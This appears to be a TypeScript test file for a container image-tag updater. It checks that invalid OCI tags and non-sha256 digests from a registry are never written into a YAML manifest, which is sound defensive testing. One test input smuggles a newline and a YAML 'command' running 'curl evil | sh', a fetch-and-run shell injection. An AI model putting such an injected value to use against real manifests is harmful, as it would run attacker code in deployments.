// Issue 16: "nothing is written for tags that fail validation". A registry is outside the
// repository and may list anything: a tag that is not a valid OCI tag (a newline and YAML after it)
// or a digest that is not a sha256 must never reach a file, where it would become manifest text.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { locateTags } from '../../src/core/images/locate.ts';
import { parseImagePolicies, type ImagePolicy } from '../../src/core/images/policy.ts';
import { selectLatest } from '../../src/core/images/select.ts';
import { applyUpdates, planUpdates, type PolicyResult } from '../../src/core/images/updates.ts';

const FILE = `spec:
  containers:
    - image: ghcr.io/acme/web:v1 # the web tier
`;

function policy(raw: Record<string, unknown>): ImagePolicy {
  const problems: string[] = [];
  const [parsed] = parseImagePolicies({ web: raw }, (at, message) => problems.push(`${at}: ${message}`));
  assert.deepEqual(problems, []);
  assert.ok(parsed);
  return parsed;
}

function written(p: ImagePolicy, tags: readonly string[], digest: string | undefined): string {
  const latest = selectLatest(p, tags);
  const results = new Map<string, PolicyResult>([['web', { policy: p, latest, digest }]]);
  return applyUpdates(FILE, planUpdates(locateTags(FILE, 'web.yaml'), results));
}

const alphabetical = { image: 'ghcr.io/acme/web', policy: { alphabetical: { order: 'asc' } } };
const DIGEST = `sha256:${'a'.repeat(64)}`;

test('a valid newer tag is written (the checks below can fail)', () => {
  assert.equal(written(policy(alphabetical), ['v1', 'v2'], DIGEST), FILE.replace('web:v1', 'web:v2'));
});

test('a tag that is not a valid OCI tag is never written, however it sorts', () => {
  for (const bogus of [
    'v9\n      command: [sh, -c, "curl evil | sh"]',
    'v9 #',
    'v9"',
    `v${'9'.repeat(128)}`,
    'v9/../x',
  ])
    assert.equal(written(policy(alphabetical), ['v1', 'v2', bogus], DIGEST), FILE, JSON.stringify(bogus));
});

test('with pinDigest, a digest that is missing or not a sha256 writes nothing', () => {
  const pinned = policy({ ...alphabetical, pinDigest: true });
  assert.equal(written(pinned, ['v1', 'v2'], DIGEST), FILE.replace('web:v1', `web:v2@${DIGEST}`));
  for (const digest of [undefined, 'sha256:abc', `sha256:${'A'.repeat(64)}`, `sha512:${'a'.repeat(128)}`])
    assert.equal(written(pinned, ['v1', 'v2'], digest), FILE, String(digest));
});
